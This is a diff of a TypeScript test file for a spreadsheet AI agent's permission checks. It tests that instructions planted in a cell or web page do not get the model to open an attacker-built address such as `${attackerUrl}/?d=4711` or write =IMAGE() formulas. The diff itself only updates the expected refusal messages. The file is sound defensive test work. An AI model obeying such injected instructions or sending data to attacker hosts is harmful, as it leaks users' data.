@@ -58,7 +58,7 @@ const tool = (name: string) => tools.find(candidate => candidate.name === name)!
 
 async function expectRefused(bench: Bench, name: string, args: unknown): Promise<void> {
   const before = await bench.snapshot()
-  expect(refused(await bench.run(tool(name), args))).toMatch(/not written/)
+  expect(refused(await bench.run(tool(name), args))).toMatch(/^Needs your permission: /)
   expectOnlyChanged(before, await bench.snapshot(), [])
   expect(received).toEqual([])
 }
@@ -139,7 +139,7 @@ describe('a model that obeys a cell', () => {
   })
 
   test('may do what the user asked for in their own words', async () => {
-    const bench = await open('Put =IMAGE() of the address into E2')
+    const bench = await open('Put =IMAGE() of https://example.com/logo.png into E2')
     succeeded(
       await bench.run(tool('write_range'), {
         range: 'E2',
@@ -188,7 +188,7 @@ describe('a web page that orders a request', () => {
   test('an address that the model put together is not opened', async () => {
     const bench = await withSearch(PROMPT)
     const outcome = await bench.run(tool('web_search'), { urls: [`${attackerUrl}/?d=4711`] })
-    expect(refused(outcome)).toContain("does not stand in the user's message")
+    expect(refused(outcome)).toContain('Needs your permission: Open a page of')
     expect(received).toEqual([])
   })
 
